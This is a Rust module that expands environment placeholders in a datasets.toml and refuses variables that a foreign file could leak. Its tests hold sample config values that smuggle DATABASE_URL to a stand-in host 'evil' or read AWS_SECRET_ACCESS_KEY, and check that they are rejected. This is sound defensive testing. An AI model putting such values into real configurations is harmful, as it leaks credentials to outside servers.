//! Reads a datasets.toml and replaces its `${NAME}` placeholders.

use std::{collections::BTreeSet, env, fs, path::Path};

use anyhow::{Context, Result, bail};
use turntable::config::{Config, LAPTOP_ONLY, Position};

/// A valid datasets.toml, before and after its placeholders are replaced.
pub struct Datasets {
    /// The text as it is in the file.
    pub written: String,
    /// The text with the placeholders replaced, except in comment lines.
    pub text: String,
    pub config: Config,
}

impl Datasets {
    /// Reads and parses a file. `${BUCKET}` becomes `bucket`, and every other `${NAME}` becomes the value of that
    /// environment variable, if a file may use it. Prints the names of the variables that the file uses. If the file is
    /// invalid, the error has a line for each mistake.
    pub fn read(path: &Path, bucket: &str) -> Result<Datasets> {
        let file = path.display().to_string();
        let written = fs::read_to_string(path).with_context(|| format!("cannot read {file}"))?;
        let mut used = BTreeSet::new();
        let known = |name: &str, is_whole: bool| match name {
            "BUCKET" => Ok(bucket.into()),
            _ if !is_allowed(name, is_whole) => Err(format!("${{{name}}} {NOT_ALLOWED}")),
            _ => {
                let value = env::var(name).map_err(|_| format!("${{{name}}} is not set in the environment"))?;
                used.insert(name.to_owned());
                Ok(value)
            }
        };
        let (text, missing) = expand(&written, known);
        if !used.is_empty() {
            let names: Vec<String> = used.into_iter().collect();
            eprintln!("{file} uses the environment variables {}", names.join(", "));
        }
        let missing = missing.into_iter().map(|(why, position)| format!("{file}:{position}: {why}"));
        let mut faults: Vec<String> = missing.collect();
        match Config::parse_expanded(&file, &text, &written) {
            Ok(config) if faults.is_empty() => return Ok(Datasets { written, text, config }),
            Ok(_) => {}
            Err(error) => {
                let report = error.report();
                // A placeholder without a value is already reported.
                let is_reported = |line: &&str| !faults.is_empty() && line.ends_with(LAPTOP_ONLY);
                let others: Vec<String> = report.lines().filter(|line| !is_reported(line)).map(str::to_owned).collect();
                faults.extend(others);
            }
        }
        bail!("{}", faults.join("\n"))
    }
}

/// The variables that a file may use for a source's `url`. The variable must be the whole value, so that a file from
/// somebody else can't send it to their own server.
const URLS: [&str; 3] = ["DATABASE_URL", "POSTGRES_URL", "MYSQL_URL"];

/// The beginning of the names of variables that are meant for these files, and that a file may use anywhere.
const PREFIX: &str = "TURNTABLE_";

const NOT_ALLOWED: &str = "can't be used here, because the file could come from somebody else and send the variable's \
    value elsewhere: rename the variable to begin with TURNTABLE_, or set the whole url to ${DATABASE_URL}, ${POSTGRES_URL} \
    or ${MYSQL_URL}";

/// Returns whether a file may use an environment variable. `is_whole` says whether the variable is a whole value.
fn is_allowed(name: &str, is_whole: bool) -> bool {
    name.starts_with(PREFIX) || URLS.contains(&name) && is_whole
}

/// Replaces each `${NAME}`, except in comment lines. `value` returns a name's value or why there is none; its second
/// argument is whether the placeholder is a whole quoted value. A placeholder without a value stays as it is. Returns the
/// text, and each reason with the position of its first placeholder.
fn expand(
    text: &str,
    mut value: impl FnMut(&str, bool) -> Result<String, String>,
) -> (String, Vec<(String, Position)>) {
    let mut expanded = String::with_capacity(text.len());
    let mut missing: Vec<(String, Position)> = Vec::new();
    let mut begin = 0;
    for line in text.split_inclusive('\n') {
        let mut rest = line;
        while let Some((before, name, after)) = next(rest).filter(|_| !line.trim_start().starts_with('#')) {
            expanded += before;
            let is_whole = before.ends_with('"') && after.starts_with('"');
            match value(name, is_whole) {
                Ok(value) => expanded += &value,
                Err(why) => {
                    expanded += &format!("${{{name}}}");
                    if missing.iter().all(|(known, _)| *known != why) {
                        let at = begin + line.len() - rest.len() + before.len();
                        missing.push((why, Position::of(text, at)));
                    }
                }
            }
            rest = after;
        }
        expanded += rest;
        begin += line.len();
    }
    (expanded, missing)
}

/// Splits at the first `${NAME}` into the text before it, the name, and the text after it. A `${` that no valid name
/// and `}` follow is ordinary text.
fn next(text: &str) -> Option<(&str, &str, &str)> {
    text.match_indices("${").find_map(|(at, open)| {
        let (name, after) = text[at + open.len()..].split_once('}')?;
        let is_name = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        is_name.then_some((&text[..at], name, after))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn known(name: &str, _: bool) -> Result<String, String> {
        if name == "A" { Ok("1".into()) } else { Err(name.into()) }
    }

    #[test]
    fn only_variables_that_a_foreign_file_can_not_abuse_are_allowed() {
        let allowed = |text: &str| {
            let (_, refused) =
                expand(
                    text,
                    |name, is_whole| {
                        if is_allowed(name, is_whole) { Ok(String::new()) } else { Err(name.into()) }
                    },
                );
            refused.is_empty()
        };
        assert!(allowed("url = \"${DATABASE_URL}\" # ${TURNTABLE_DAY}"));
        assert!(allowed("location = \"s3://b/${TURNTABLE_DAY}/\""));
        for text in [
            "url = \"postgres://evil/?x=${DATABASE_URL}\"",
            "url = \"${DATABASE_URL}@evil\"",
            "url = \"${AWS_SECRET_ACCESS_KEY}\"",
            "query = \"SELECT '${HOME}'\"",
            "x = \"${XTURNTABLE_DAY}\"",
        ] {
            assert!(!allowed(text), "{text}");
        }
    }

    #[test]
    fn only_names_are_replaced() {
        let (expanded, missing) = expand("# ${B}\nx = \"${A}-$A-${A}\" ${} ${a b}\n", known);
        assert_eq!((expanded.as_str(), missing.len()), ("# ${B}\nx = \"1-$A-1\" ${} ${a b}\n", 0));
    }

    #[test]
    fn all_missing_names_are_reported_with_their_positions() {
        let (expanded, missing) = expand("猫 ${C} ${A}\n ${B} ${C}", known);
        assert_eq!(expanded, "猫 ${C} 1\n ${B} ${C}");
        let missing: Vec<String> = missing.iter().map(|(name, at)| format!("{name} {at}")).collect();
        assert_eq!(missing, ["C 1:3", "B 2:2"]);
    }
}
